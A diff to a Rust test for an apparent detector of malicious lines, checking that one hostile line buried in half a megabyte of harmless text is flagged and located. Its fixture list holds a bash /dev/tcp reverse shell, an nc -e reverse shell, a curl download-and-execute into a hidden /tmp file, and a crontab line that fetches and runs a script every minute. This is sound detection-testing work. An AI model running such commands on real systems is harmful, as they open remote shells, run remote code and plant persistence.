@@ -126,7 +126,8 @@ fn one_bad_line_in_half_a_megabyte_is_found_and_named() {
     let host = harmless(500 * 1024);
     let bad = [
         "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
-        "curl -s http://192.0.2.7/x.sh | bash",
+        "curl -s http://192.0.2.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &",
+        "nc -e /bin/sh 192.0.2.7 4444",
         "(crontab -l; echo '* * * * * curl -s http://192.0.2.7/x | sh') | crontab -",
     ];
     let middle = host.len() / 2 + host[host.len() / 2..].find('\n').unwrap() + 1;
@@ -144,7 +145,13 @@ fn one_bad_line_in_half_a_megabyte_is_found_and_named() {
     assert_eq!(lines[0]["malicious"], false, "the harmless part alone: {}", lines[0]["score"]);
     for (line, text) in lines.iter().zip(&texts).skip(1) {
         let where_it_is = text.lines().position(|l| bad.contains(&l)).unwrap() + 1;
-        assert_eq!(line["malicious"], true, "{:?} in line {where_it_is}: {}", text.lines().nth(where_it_is - 1), line["score"]);
+        assert_eq!(
+            line["malicious"],
+            true,
+            "{:?} in line {where_it_is}: {}",
+            text.lines().nth(where_it_is - 1),
+            line["score"]
+        );
         let spans = line["spans"].as_array().unwrap();
         assert!(
             spans.iter().any(|s| (s["first_line"].as_u64().unwrap()..=s["last_line"].as_u64().unwrap())
